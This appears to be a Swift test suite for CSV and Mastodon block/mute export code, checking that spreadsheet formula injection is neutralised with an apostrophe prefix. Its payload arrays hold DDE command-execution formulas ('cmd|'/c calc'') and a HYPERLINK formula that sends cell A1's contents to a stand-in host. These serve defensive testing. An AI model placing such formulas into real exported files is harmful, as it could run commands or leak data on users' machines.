import Foundation
import Testing

@testable import SafeholdNetwork

/// Reads CSV back (RFC 4180), to check what a spreadsheet would see in each cell.
enum CSVReader {
    static func rows(_ text: String) -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var cell = ""
        var quoted = false
        var scalars = Array(text.unicodeScalars)[...]
        while let scalar = scalars.popFirst() {
            if quoted {
                if scalar == "\"" {
                    if scalars.first == "\"" {
                        cell.unicodeScalars.append(scalars.removeFirst())
                    } else {
                        quoted = false
                    }
                } else {
                    cell.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" {
                quoted = true
            } else if scalar == "," {
                row.append(cell)
                cell = ""
            } else if scalar == "\r" && scalars.first == "\n" {
                scalars.removeFirst()
                row.append(cell)
                rows.append(row)
                row = []
                cell = ""
            } else {
                cell.unicodeScalars.append(scalar)
            }
        }
        if !cell.isEmpty || !row.isEmpty { rows.append(row + [cell]) }
        return rows
    }
}

@Suite("CSVWriter")
struct CSVWriterTests {
    static let payloads = [
        "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
        "\t=1+1", "\r=1+1", "  =1+1", "=cmd|'/c calc'!A1", "\u{FF1D}1+1", "-", "@jane",
    ]

    @Test("formula payloads are read back as text starting with an apostrophe", arguments: payloads)
    func neutralizes(payload: String) throws {
        let text = CSVWriter.document(header: ["value", "other"], rows: [[payload, "x"]])
        let rows = CSVReader.rows(text)
        #expect(rows.count == 2)
        let cell = try #require(rows.last?.first)
        #expect(cell == "'" + payload)
        #expect(rows.last?.last == "x")
    }

    @Test(
        "ordinary text is kept exactly, with quotes, commas and line breaks quoted",
        arguments: [
            "Jane Doe", "says \"hi\", then leaves", "line one\nline two", "café ☕", "1+1", "a=b", "",
        ]
    )
    func keepsText(value: String) {
        #expect(CSVReader.rows(CSVWriter.line([value, "end"])) == [[value, "end"]])
    }

    @Test("a megabyte cell and many rows are written in one pass")
    func large() {
        let big = String(repeating: "=\",", count: 350_000)
        let text = CSVWriter.document(header: nil, rows: Array(repeating: [big], count: 3))
        #expect(CSVReader.rows(text).allSatisfy { $0 == ["'" + big] })
    }
}

@Suite("AccountExport")
struct AccountExportTests {
    static let accounts = [
        AccountRef(platform: "mastodon", handle: "@troll@example.social"),
        AccountRef(platform: "mastodon", handle: "helper"),
        AccountRef(platform: "mastodon", handle: "=cmd|'/c calc'!A1@evil.example"),
        AccountRef(platform: "mastodon", handle: "@Troll@Example.Social"),
        AccountRef(platform: "mastodon", handle: "-x@host.example"),
    ]

    @Test("blocks are one user@domain per line, without a header, and unsafe addresses are skipped")
    func blocks() {
        let result = AccountExport.mastodonBlocks(Self.accounts, defaultDomain: "home.example")
        #expect(result.files == ["troll@example.social\r\nhelper@home.example\r\n"])
        #expect(result.skipped.map(\.handle) == ["=cmd|'/c calc'!A1@evil.example", "-x@host.example"])
    }

    @Test("mutes carry Mastodon's header and the hide-notifications column")
    func mutes() {
        let result = AccountExport.mastodonMutes(Self.accounts, hideNotifications: true, defaultDomain: nil)
        #expect(result.files == ["Account address,Hide notifications\r\ntroll@example.social,true\r\n"])
        #expect(result.skipped.count == 3)
    }

    @Test("more than 20,000 accounts are split into files Mastodon accepts")
    func chunks() {
        let many = (0..<45_000).map { AccountRef(platform: "mastodon", handle: "user\($0)@example.social") }
        let result = AccountExport.mastodonBlocks(many, defaultDomain: nil)
        #expect(result.files.map { $0.split(separator: "\r\n").count } == [20_000, 20_000, 5_000])
    }

    @Test("the plain CSV neutralizes hostile handles and reasons, and JSON round-trips")
    func plain() throws {
        let entry = AuditEntry(
            account: AccountRef(platform: "x", handle: "=HYPERLINK(\"http://e.invalid\")", id: "+123"),
            kinds: [.follower],
            suggestion: .block,
            reasons: [AuditEntry.Reason(code: .neverInteracted, sentence: "-says hi", points: 1)],
            points: 1
        )
        let rows = CSVReader.rows(AccountExport.csv([entry]))
        #expect(rows.first == AccountExport.csvHeader)
        #expect(rows[1][1] == "'=HYPERLINK(\"http://e.invalid\")")
        #expect(rows[1][3] == "'+123")
        #expect(rows[1][6] == "'-says hi")
        let decoded = try JSONDecoder().decode([AuditEntry].self, from: AccountExport.json([entry]))
        #expect(decoded == [entry])
    }
}
